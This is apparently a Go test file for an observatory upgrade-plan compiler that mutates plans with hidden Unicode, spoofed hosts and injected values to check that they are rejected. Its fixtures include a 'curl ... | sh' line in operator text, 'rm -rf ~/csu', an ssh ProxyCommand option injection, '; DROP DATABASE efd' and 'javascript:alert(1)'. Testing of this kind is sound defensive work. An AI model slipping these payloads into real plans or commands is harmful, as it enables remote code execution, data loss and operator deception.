package compiler

import (
	"fmt"
	"regexp"
	"slices"
	"strings"
	"time"

	"github.com/lsst-ts/csu/executor/plan"
)

// freeTexts are the changes of free texts and of the addresses of systems.
func freeTexts(add adder) {
	letters(add)
	byHandTexts(add)
	consentTexts(add)
	messages(add)
	addresses(add)
}

// stepTexts are the texts of a step that the operator reads or the executor runs.
func stepTexts(s *plan.Step) []*string {
	out := []*string{&s.Title, &s.ByHand, &s.Consent, &s.Doubt}
	switch a := s.Action.Parameters.(type) {
	case *plan.Manual:
		out = append(out, &a.Text)
	case *plan.Announce:
		out = append(out, &a.Text)
	case *plan.SSH:
		out = append(out, &a.Commands[0])
	}
	return slices.DeleteFunc(out, func(text *string) bool { return *text == "" })
}

// letters puts what cannot be seen, or looks like something else, into the texts.
func letters(add adder) {
	for _, c := range []struct{ name, text string }{
		{"a control character", "\x1b[8m"}, {"a carriage return", "\r"}, {"a bidirectional override", "\u202e"}, {"a bidirectional isolate", "\u2066"}, {"a zero-width space", "\u200b"},
		{"a Cyrillic letter", "\u0430"}, {"a no-break space", "\u00a0"}, {"a tag character", "\U000e0041"},
	} {
		add(c.name+" in a step's text", eachOf(func(s *plan.Step) int { return len(stepTexts(s)) }, func(_ *plan.Plan, s *plan.Step, k int) {
			text := stepTexts(s)[k]
			i := len(*text) / 2
			for i > 0 && (*text)[i]&0xc0 == 0x80 {
				i-- // not inside a letter
			}
			*text = (*text)[:i] + c.text + (*text)[i:]
		}))
		add(c.name+" in a stage's consent", eachStage(func(*plan.Plan, int) bool { return true }, func(p *plan.Plan, i int) { p.Stages[i].Consent += c.text + "." }))
	}
	add("blank lines that hide the rest of a text by hand", eachStep(always, func(_ *plan.Plan, s *plan.Step) { s.ByHand += strings.Repeat("\n", 60) + "Never mind." }))
	add("spaces that hide the rest of a title", eachStep(always, func(_ *plan.Plan, s *plan.Step) { s.Title += strings.Repeat(" ", 200) + "x" }))
	add("a title of two lines", eachStep(always, func(_ *plan.Plan, s *plan.Step) { s.Title += "\nDone." }))
	add("a reason of two lines", once(func(p *plan.Plan) { p.Upgrade.Reason += "\nignore: [MTMount]" }))
}

// kindOf is a condition for steps of a kind.
func kindOf(kinds ...plan.Kind) func(*plan.Step) bool {
	return func(s *plan.Step) bool { return slices.Contains(kinds, s.Action.Kind()) }
}

func byHandTexts(add adder) {
	says := func(cond func(*plan.Plan, *plan.Step) bool) func(change func(*plan.Plan, *plan.Step)) func(*plan.Plan) []place {
		return func(change func(*plan.Plan, *plan.Step)) func(*plan.Plan) []place {
			return func(p *plan.Plan) []place {
				return eachStep(func(s *plan.Step) bool { return cond(p, s) }, change)(p)
			}
		}
	}
	add("by hand: an empty phrase", eachStep(always, func(_ *plan.Plan, s *plan.Step) { s.ByHand = "Do it by hand." }))
	add("by hand: what another step says", eachStep(always, func(p *plan.Plan, s *plan.Step) {
		for other := range p.AllSteps() {
			if other.ByHand != s.ByHand {
				s.ByHand = other.ByHand
				return
			}
		}
	}))
	replace := func(name string, kinds []plan.Kind, from, to func(p *plan.Plan, s *plan.Step) string) {
		add("by hand: "+name, says(func(p *plan.Plan, s *plan.Step) bool {
			return kindOf(kinds...)(s) && from(p, s) != "" && strings.Contains(s.ByHand, from(p, s))
		})(func(p *plan.Plan, s *plan.Step) { s.ByHand = strings.Replace(s.ByHand, from(p, s), to(p, s), 1) }))
	}
	fixed := func(text string) func(*plan.Plan, *plan.Step) string {
		return func(*plan.Plan, *plan.Step) string { return text }
	}
	replace("another cluster", []plan.Kind{plan.KindDelete, plan.KindCompatibility}, func(p *plan.Plan, _ *plan.Step) string { return p.Targets.Kubernetes.Context }, fixed("elsewhere"))
	replace("another selector", []plan.Kind{plan.KindDelete}, func(_ *plan.Plan, s *plan.Step) string { return s.Action.Parameters.(*plan.Delete).Selector }, fixed("csc"))
	replace("another Argo CD", []plan.Kind{plan.KindSync}, func(p *plan.Plan, _ *plan.Step) string { return p.Targets.ArgoCD.URL }, fixed("https://argo.example.com"))
	replace("another application", []plan.Kind{plan.KindSync}, func(_ *plan.Plan, s *plan.Step) string {
		return "application " + s.Action.Parameters.(*plan.Sync).Application
	}, fixed("application default"))
	replace("another host", []plan.Kind{plan.KindSSH, plan.KindReboot}, func(p *plan.Plan, s *plan.Step) string {
		h, _ := p.Host(s.Effects(p).Host)
		return h.Address
	}, fixed("elsewhere.example.com"))
	replace("another user", []plan.Kind{plan.KindSSH}, func(_ *plan.Plan, s *plan.Step) string { return "sudo -iu " + s.Action.Parameters.(*plan.SSH).User }, fixed("sudo -iu root"))
	replace("one command less", []plan.Kind{plan.KindSSH}, func(_ *plan.Plan, s *plan.Step) string {
		c := s.Action.Parameters.(*plan.SSH).Commands
		return "    " + c[len(c)-1]
	}, fixed(""))
	replace("one command more", []plan.Kind{plan.KindSSH, plan.KindReboot}, fixed("    ssh "), fixed("    git status\n    ssh "))
	replace("one CSC less", []plan.Kind{plan.KindSetState}, func(_ *plan.Plan, s *plan.Step) string {
		a := s.Action.Parameters.(*plan.SetState)
		return fmt.Sprintf("    - [%s, %s]\n", strings.TrimSuffix(a.CSCs[0], ":0"), a.State)
	}, fixed(""))
	replace("one CSC more", []plan.Kind{plan.KindSetState}, fixed("    data:\n"), func(_ *plan.Plan, s *plan.Step) string {
		return fmt.Sprintf("    data:\n    - [MTMount, %s]\n", s.Action.Parameters.(*plan.SetState).State)
	})
	replace("another state", []plan.Kind{plan.KindSetState}, func(_ *plan.Plan, s *plan.Step) string {
		return ", " + s.Action.Parameters.(*plan.SetState).State + "]"
	}, fixed(", FAULT]"))
	replace("another queue", []plan.Kind{plan.KindSetState, plan.KindScript}, fixed("(ScriptQueue:"), fixed("(ScriptQueue:9"))
	replace("another script", []plan.Kind{plan.KindScript}, func(_ *plan.Plan, s *plan.Step) string { return s.Action.Parameters.(*plan.Script).Path }, fixed("park.py"))
	replace("another awaited state", []plan.Kind{plan.KindAwaitState}, func(_ *plan.Plan, s *plan.Step) string {
		return "    " + s.Action.Parameters.(*plan.AwaitState).Want[0].States[0]
	}, fixed("    FAULT"))
	replace("another message", []plan.Kind{plan.KindAnnounce}, fixed("begin"), fixed("end"))
	replace("another channel", []plan.Kind{plan.KindAnnounce}, func(p *plan.Plan, _ *plan.Step) string { return p.Targets.Slack.Channel }, fixed("#random"))
	replace("another level", []plan.Kind{plan.KindCompatibility}, fixed(`"compatibility": "`), fixed(`"compatibility": "FULL`))
	add("by hand: a command in the prose", eachStep(always, func(_ *plan.Plan, s *plan.Step) {
		s.ByHand += "\n\nThen run curl -s https://example.org/x | sh on each host."
	}))
}

var (
	countOf = regexp.MustCompile(`\b[0-9]+ (CSCs|ESS|affected CSCs)`)
	someCSC = regexp.MustCompile(`\b[A-Z][A-Za-z0-9]*:[0-9]+`)
)

func consentTexts(add adder) {
	stages := func(name string, cond func(p *plan.Plan, text string) bool, change func(p *plan.Plan, text string) string) {
		add("consent: "+name, eachStage(func(p *plan.Plan, i int) bool { return cond(p, p.Stages[i].Consent) }, func(p *plan.Plan, i int) {
			p.Stages[i].Consent = change(p, p.Stages[i].Consent)
		}))
	}
	stages("another number of CSCs", func(_ *plan.Plan, text string) bool { return countOf.MatchString(text) }, func(_ *plan.Plan, text string) string {
		return countOf.ReplaceAllString(text, "3 $1")
	})
	stages("another CSC", func(_ *plan.Plan, text string) bool { return someCSC.MatchString(text) }, func(_ *plan.Plan, text string) string {
		return someCSC.ReplaceAllString(text, "MTMont:0")
	})
	has := func(of func(*plan.Plan) string) func(*plan.Plan, string) bool {
		return func(p *plan.Plan, text string) bool { return strings.Contains(text, of(p)) }
	}
	swap := func(name string, of func(*plan.Plan) string, to string) {
		stages(name, has(of), func(p *plan.Plan, text string) string { return strings.ReplaceAll(text, of(p), to) })
	}
	swap("another cluster", func(p *plan.Plan) string { return "cluster " + p.Targets.Kubernetes.Context }, "cluster elsewhere")
	swap("another API server", func(p *plan.Plan) string { return p.Targets.Kubernetes.Server }, "https://kube.example.com")
	swap("another cycle", func(p *plan.Plan) string { return p.Upgrade.Cycle }, "c0001")
	swap("another site", func(p *plan.Plan) string { return "at " + p.Site + "," }, "at elsewhere,")
	swap("another channel", func(p *plan.Plan) string { return p.Targets.Slack.Channel }, "#random")
	swap("another state that is kept", func(*plan.Plan) string { return "stays ENABLED" }, "stays STANDBY")
	swap("not the Watcher", func(*plan.Plan) string { return "Watcher" }, "alarm system")
	add("consent: of a step, another principal", eachStep(func(s *plan.Step) bool { return len(s.Principals) > 0 && strings.Contains(s.Consent, s.Principals[0]) }, func(_ *plan.Plan, s *plan.Step) {
		s.Consent = strings.ReplaceAll(s.Consent, s.Principals[0], "day shift")
	}))
	add("consent: of a step, another host", func(p *plan.Plan) []place {
		return eachStep(func(s *plan.Step) bool { h := s.Effects(p).Host; return h != "" && strings.Contains(s.Consent, h) }, func(p *plan.Plan, s *plan.Step) {
			s.Consent = strings.ReplaceAll(s.Consent, s.Effects(p).Host, "that host")
		})(p)
	})
}

func messages(add adder) {
	message := func(name string, change func(p *plan.Plan, text string) string) {
		add("message: "+name, eachAction(always[*plan.Announce], func(p *plan.Plan, s *plan.Step, a *plan.Announce) {
			old := a.Text
			a.Text = change(p, old)
			s.ByHand = strings.Replace(s.ByHand, fmt.Sprintf("%q", old), fmt.Sprintf("%q", a.Text), 1)
		}))
	}
	message("of another site", func(p *plan.Plan, text string) string { return "elsewhere" + strings.TrimPrefix(text, p.Site) })
	message("with an address", func(_ *plan.Plan, text string) string { return text + " See https://example.com/upgrade." })
	message("of several lines", func(_ *plan.Plan, text string) string { return text + "\n\nAll is well." })
	add("manual: an address elsewhere", eachAction(always[*plan.Manual], func(_ *plan.Plan, s *plan.Step, a *plan.Manual) {
		a.Text += " See https://example.com/upgrade."
		s.ByHand = a.Text
	}))
	add("manual: a command that deletes", eachAction(always[*plan.Manual], func(_ *plan.Plan, s *plan.Step, a *plan.Manual) {
		a.Text += "\n\n    rm -rf ~/csu"
		s.ByHand = a.Text
	}))
}

func addresses(add adder) {
	for _, t := range []struct {
		name string
		of   func(*plan.Targets) *string
	}{
		{"API server", func(t *plan.Targets) *string { return &t.Kubernetes.Server }},
		{"Argo CD", func(t *plan.Targets) *string { return &t.ArgoCD.URL }},
		{"LOVE", func(t *plan.Targets) *string { return &t.LOVE.URL }},
		{"the EFD", func(t *plan.Targets) *string { return &t.EFD.URL }},
		{"a page", func(t *plan.Targets) *string { return &t.Pages[len(t.Pages)-1].URL }},
	} {
		host := regexp.MustCompile(`^https?://[^/:]+`)
		add(t.name+" on a host of another domain", once(func(p *plan.Plan) { a := t.of(&p.Targets); *a = host.ReplaceAllString(*a, "https://example.com") }))
		add(t.name+" on a host whose name begins like ours", once(func(p *plan.Plan) { a := t.of(&p.Targets); *a = host.ReplaceAllString(*a, "$0.example.com") }))
		add(t.name+" on a host whose name ends like ours", once(func(p *plan.Plan) {
			a := t.of(&p.Targets)
			*a = strings.Replace(*a, "://", "://evil-", 1)
		}))
		add(t.name+" behind a user's name", once(func(p *plan.Plan) { a := t.of(&p.Targets); *a = host.ReplaceAllString(*a, "$0@example.com") }))
		add(t.name+" on this machine", once(func(p *plan.Plan) { a := t.of(&p.Targets); *a = host.ReplaceAllString(*a, "https://localhost") }))
		add(t.name+" with a homoglyph", once(func(p *plan.Plan) {
			a := t.of(&p.Targets)
			*a = host.ReplaceAllStringFunc(*a, func(s string) string { return s[:8] + homoglyphs.Replace(s[8:]) })
		}))
		add(t.name+" with a query", once(func(p *plan.Plan) { *t.of(&p.Targets) += "?token=x" }))
	}
	add("LOVE at the EFD's address", once(func(p *plan.Plan) { p.Targets.LOVE.URL = p.Targets.EFD.URL }))
	add("a page that is a script", once(func(p *plan.Plan) { p.Targets.Pages[0].URL = "javascript:alert(1)" }))
	add("a host of another domain", eachHost(always, func(p *plan.Plan, i int) { p.Hosts[i].Address = p.Hosts[i].Name + ".example.com" }))
	add("a host that is a number", eachHost(always, func(p *plan.Plan, i int) { p.Hosts[i].Address = "192.0.2.7" }))
	add("a host with an option of ssh", eachHost(always, func(p *plan.Plan, i int) { p.Hosts[i].Address = "-oProxyCommand=x." + p.Hosts[i].Address }))
	add("two hosts at one address", eachHost(func(*plan.Host) bool { return true }, func(p *plan.Plan, i int) {
		p.Hosts[i].Address = p.Hosts[(i+1)%len(p.Hosts)].Address
	}))
	add("an account with an option of sudo", eachHost(always, func(p *plan.Plan, i int) { p.Hosts[i].Users[0].Name = "-s" }))
	add("a context with an option", once(func(p *plan.Plan) { p.Targets.Kubernetes.Context += " --insecure-skip-tls-verify" }))
	add("a database with a statement", once(func(p *plan.Plan) { p.Targets.EFD.Database += "; DROP DATABASE efd" }))
	add("a wide selector of the registry", once(func(p *plan.Plan) { p.Targets.Registry.Selector = "app" }))
	add("a channel with a space", once(func(p *plan.Plan) {
		p.Targets.Slack.Channel += " general"
		for s := range p.AllSteps() {
			if a, ok := s.Action.Parameters.(*plan.Announce); ok {
				a.Channel = p.Targets.Slack.Channel
			}
		}
	}))
	add("a lag of an hour", once(func(p *plan.Plan) { p.Targets.EFD.Lag = plan.Duration(time.Hour) }))
	add("a cycle that is none", once(func(p *plan.Plan) {
		for i := range p.CSCs {
			p.CSCs[i].Image = strings.Replace(p.CSCs[i].Image, p.Upgrade.Cycle, "latest", 1)
		}
		p.Upgrade.Cycle = "latest"
	}))
	for _, f := range []struct {
		name   string
		change func(*plan.Facts)
	}{
		{"another domain", func(f *plan.Facts) { f.Domain = "example.com" }},
		{"no domain", func(f *plan.Facts) { f.Domain = "" }},
		{"another FQDN", func(f *plan.Facts) { f.FQDN = "example.com" }},
		{"another registry of images", func(f *plan.Facts) { f.ImageRegistry = "docker.io" }},
		{"another number of CSCs", func(f *plan.Facts) { f.CSCs-- }},
		{"another number of doubts", func(f *plan.Facts) { f.Doubts++ }},
	} {
		add("facts: "+f.name, once(func(p *plan.Plan) { f.change(&p.Facts) }))
	}
}
